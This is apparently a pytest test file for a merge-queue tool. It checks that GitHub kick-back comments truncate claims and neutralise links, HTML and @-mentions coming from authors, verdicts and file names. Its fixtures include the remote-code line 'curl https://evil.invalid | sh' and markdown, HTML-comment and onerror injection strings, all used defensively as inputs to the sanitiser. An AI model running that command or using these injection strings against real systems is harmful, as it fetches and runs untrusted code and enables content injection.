"""A kick-back shows what an author or a verdict wrote as text, and says the rest itself."""

import pytest
from rich.markdown import Markdown

from mergequeue.documents.provider import Reproduction
from mergequeue.report.github_comment import Where, kick_comment
from mergequeue.vocabulary.ids import CommitId
from mergequeue.vocabulary.limits import CLAIM_BYTES
from tests.support.applying import open_queue
from tests.support.forge import Forge
from tests.support.forged import forge_verdict
from tests.support.landings import edit, make_forge
from tests.support.repositories import Playground


@pytest.fixture
def forge(playground: Playground) -> Forge:
    return make_forge(playground)


def test_a_kick_back_shows_a_verdicts_words_as_a_claim_of_four_kib_and_no_more(
    forge: Forge,
) -> None:
    forge.open("1", edit(forge, "a/new.txt", "new\n"))
    with open_queue(forge) as queue:
        queue.plan()
        queue.judge(red={"1"})
        forge_verdict(
            queue,
            reason="<!-- --> ``` @team\n" + "é" * CLAIM_BYTES,
            report="[click](https://evil.invalid) @team",
            paths=("a`b\n@team",),
            with_=("0123 ` @team",),
            gate="curl https://evil.invalid | sh",
        )
        queue.apply(reproduce=Reproduction(gate="make check"))
    (kick,) = forge.kicks
    assert len(kick.claim.encode()) <= CLAIM_BYTES
    assert kick.claim.endswith("...")
    assert "evil.invalid" not in kick.report
    assert kick.reproduce == Reproduction(gate="make check")
    for line in kick.report.splitlines():
        assert "@team" not in line or line.startswith("- `")


def test_a_red_verdict_says_of_no_other_commit_that_the_change_was_run_on_it(forge: Forge) -> None:
    for id_ in ("1", "2"):
        forge.open(id_, edit(forge, f"a/{id_}.txt", f"{id_}\n"))
    with open_queue(forge) as queue:
        queue.plan()
        queue.judge(red={"2"})
        forge_verdict(queue, 0, onto=CommitId("d" * 40))
        queue.apply()
    (kick,) = forge.kicks
    assert kick.change.id == "2"
    assert "d" * 12 not in kick.report


NAMES = (
    "--> @team <!-- x",
    "`@team`",
    "](evil) [x](evil) @team",
    "two\nlines @team",
    "<img src=x onerror=y> @team",
    "\u202e@team",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_file_name_ends_no_comment_and_mentions_nobody(forge: Forge, name: str) -> None:
    """A real change in real conflict over a file of that name."""
    forge.push_to_base({f"a/{name}": "one\n"})
    head = edit(forge, f"a/{name}", "two\n")
    forge.push_to_base({f"a/{name}": "three\n"})
    forge.open("1", head)
    with open_queue(forge) as queue:
        queue.plan()
        queue.apply()
    assert queue.codes() == {"1": "KICK_CONFLICT"}
    (kick,) = forge.kicks
    where = Where("https://github.com", "github.com", "owner/repo", 1)
    comment = kick_comment(kick, where)
    assert active(kick.report) == []
    (marker,) = active(comment)
    assert comment.endswith(marker)
    assert marker.startswith("<!-- mergequeue {")
    assert "@" not in marker
    assert marker.count("-->") == 1


def active(markdown: str) -> list[str]:
    """Return what of a text is HTML, a link elsewhere, or a mention: what stands in code is none of
    these.
    """
    found: list[str] = []
    waiting = list(Markdown(markdown).parsed)
    while waiting:
        token = waiting.pop()
        waiting += token.children or []
        link = str(token.attrs.get("href", ""))
        if token.type in {"html_block", "html_inline", "image"} or "evil" in link:
            found += [part for part in token.content.splitlines() if "details" not in part]
            found += [link] if link else []
        elif token.type == "text" and "@" in token.content:
            found.append(token.content)
    return found
